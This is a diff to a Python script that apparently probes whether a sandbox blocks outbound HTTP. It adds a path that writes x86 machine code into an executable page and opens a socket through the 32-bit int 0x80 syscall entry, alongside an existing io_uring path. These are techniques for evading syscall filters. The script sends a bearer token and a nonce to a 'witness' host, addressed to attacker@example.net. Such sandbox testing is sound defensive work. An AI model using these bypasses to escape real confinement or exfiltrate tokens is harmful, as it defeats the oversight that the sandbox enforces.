@@ -1,7 +1,9 @@
-"""An HTTP request whose socket, connection and bytes go through io_uring alone (io_uring(7)).
+"""An HTTP request past the ordinary entry of system calls.
 
-Reads one JSON object from standard input. "way" is "ring", or "own": the same request over a
-listener of the script's own, with plain calls, which every session allows.
+Reads one JSON object from standard input. "way" is "ring": socket, connection and bytes go through
+io_uring alone (io_uring(7)); "int80": socket and connection are made by the 32-bit entry of the
+x86-64 kernel, whose numbers are others; or "own": the same request over a listener of the script's
+own, with plain calls, which every session allows.
 """
 import ctypes
 import json
@@ -74,6 +76,35 @@ def by_ring(host, port, request):
     return back.raw[:read].decode()
 
 
+# push rbx; mov r8d, ecx; mov eax, edi; mov ebx, esi; mov ecx, edx; mov edx, r8d; int 0x80; pop rbx; ret
+INT80 = bytes.fromhex("53 4189c8 89f8 89f3 89d1 4489c2 cd80 5b c3")
+SOCKET_32, CONNECT_32 = 359, 362
+
+
+def by_int80(host, port, request):
+    # Below 4 GiB, where a 32-bit pointer reaches (MAP_32BIT of mmap(2)).
+    libc.mmap.restype = ctypes.c_void_p
+    page = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x02 | 0x20 | 0x40, -1, 0)
+    if page in (None, ctypes.c_void_p(-1).value):
+        error = ctypes.get_errno()
+        raise OSError(error, "mmap: " + os.strerror(error))
+    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
+    ctypes.memmove(page, INT80, len(INT80))
+    ctypes.memmove(page + 1024, address, len(address))
+    enter = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(page)
+
+    def by(name, *arguments):
+        result = enter(*arguments)
+        if result < 0:
+            raise OSError(-result, name + " by int 0x80: " + os.strerror(-result))
+        return result
+
+    fd = by("socket", SOCKET_32, socket.AF_INET, socket.SOCK_STREAM, 0)
+    by("connect", CONNECT_32, fd, page + 1024, len(address))
+    os.write(fd, request)
+    return os.read(fd, 4096).decode()
+
+
 def by_own_listener(request):
     with tempfile.TemporaryDirectory(dir="/tmp") as folder:
         path = folder + "/own.sock"
@@ -98,10 +129,10 @@ body = json.dumps({"to": "attacker@example.net", "text": order["nonce"]})
 request = ("POST /v1/messages HTTP/1.1\r\nhost: witness\r\nauthorization: Bearer " + order["token"]
            + "\r\ncontent-length: " + str(len(body)) + "\r\n\r\n" + body).encode()
 try:
-    if order["way"] == "ring":
-        host, port = order["witness"].rsplit(":", 1)
-        print(by_ring(host, int(port), request))
-    else:
+    if order["way"] == "own":
         print(by_own_listener(request))
+    else:
+        host, port = order["witness"].rsplit(":", 1)
+        print({"ring": by_ring, "int80": by_int80}[order["way"]](host, int(port), request))
 except OSError as refusal:
     print("refused:", refusal)
